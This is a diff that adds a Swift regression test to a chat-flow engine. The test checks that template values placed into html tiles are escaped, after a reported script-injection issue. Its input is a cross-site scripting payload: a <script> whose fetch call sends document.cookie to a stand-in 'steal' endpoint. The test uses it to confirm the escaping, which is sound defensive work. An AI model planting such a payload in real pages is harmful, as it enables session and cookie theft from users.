@@ -451,6 +451,37 @@ import Testing
         #expect(grid.tile == nil && grid.type == "setGrid")
     }
 
+    /// Issue 25: a user's `<script>` in `{{input.text}}` ran inside an html tile. Values are escaped in `html`;
+    /// `{{{ }}}` inserts a trusted value as it is; other fields are unchanged.
+    @Test func htmlTilesEscapeTemplateValues() throws {
+        var chat = try TestChat(
+            """
+            flow: c
+            context: { badge: "<b>VIP</b>" }
+            nodes:
+              tile:
+                copilot:
+                  tile: note
+                  type: html
+                  html: "<p title='{{input.text}}'>{{input.text}}</p>{{{context.badge}}}<i>{{ context.badge }}</i>"
+                  text: "{{input.text}}"
+                next: whole
+              whole:
+                copilot: { tile: whole, type: html, html: "{{input.text}}" }
+            """
+        )
+        let turn = try chat.send("<script>fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script> & \"quotes\"")
+        guard case .copilot(let note) = turn.events.first, case .copilot(let whole) = turn.events.last else {
+            Issue.record("expected copilot events: \(turn.events)")
+            return
+        }
+        let escaped = "&lt;script&gt;fetch(&#39;http://127.0.0.1:9/steal?c=&#39; + document.cookie)&lt;/script&gt; &amp; &quot;quotes&quot;"
+        #expect(note.fields["html"] == .string("<p title='\(escaped)'>\(escaped)</p><b>VIP</b><i>&lt;b&gt;VIP&lt;/b&gt;</i>"))
+        #expect(note.fields["text"] == .string("<script>fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script> & \"quotes\""))
+        // A whole-field placeholder is text too in html (elsewhere it keeps the value's JSON type).
+        #expect(whole.fields["html"] == .string(escaped))
+    }
+
     @Test func maxStepsPerTurnEndsTheTurn() throws {
         var chat = try TestChat(
             """
